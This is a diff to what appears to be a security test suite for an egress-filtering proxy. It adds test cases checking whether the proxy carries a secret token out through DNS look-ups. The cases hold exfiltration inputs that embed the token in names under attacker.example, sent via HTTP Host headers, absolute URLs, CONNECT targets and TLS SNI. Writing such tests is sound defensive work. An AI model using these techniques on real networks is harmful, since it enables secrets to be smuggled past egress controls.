@@ -102,7 +102,7 @@ OLD = "a proxy without a check does not speak this scheme; it goes as plain HTTP
 
 
 def cases() -> list[Case]:
-    return [*_connect(), *_plain(), *_smuggling(), *_redirects(), *_sockets(), *_programs()]
+    return [*_connect(), *_plain(), *_look_ups(), *_smuggling(), *_redirects(), *_sockets(), *_programs()]
 
 
 def _connect() -> list[Case]:
@@ -195,6 +195,20 @@ def _plain() -> list[Case]:
         found.append(case("Host of plain HTTP", f"{name}, by the proxy with a listed URL", "stream", dial=PROXY,
                           send=f"GET http://cdn.example/{{token}} HTTP/1.1\r\n{HOSTS[name]}\r\n{END}"))  # fmt: skip
     return found
+
+
+def _look_ups() -> list[Case]:
+    """A proxy that looks a name up before it refuses it has carried the name outside."""
+    family, name = "DNS tunnel by the proxy", "{token}.attacker.example"
+    return [
+        case(family, "the Host of intercepted HTTP", "stream", dial=INTERCEPT, send=f"GET / HTTP/1.1\r\nHost: {name}\r\n{END}"),
+        case(family, "an absolute URL in intercepted HTTP", "stream", dial=INTERCEPT, send=f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n{END}"),
+        case(family, "the URL asked of the proxy", "stream", dial=PROXY, send=f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n{END}"),
+        case(family, "the host of a tunnel", "stream", dial=PROXY, connect=f"{name}:443", tls=name, http="x"),
+        case(family, "the host of a tunnel to another port", "stream", dial=PROXY, connect=f"{name}:2222", http="x"),
+        case(family, "the SNI of intercepted TLS", "stream", dial="{allowed}:443", tls=name, http="x"),
+        case(family, "the Host inside of a refused tunnel", "stream", dial=PROXY, connect="attacker.example:443", tls=name, http=name),
+    ]
 
 
 def _smuggling() -> list[Case]:
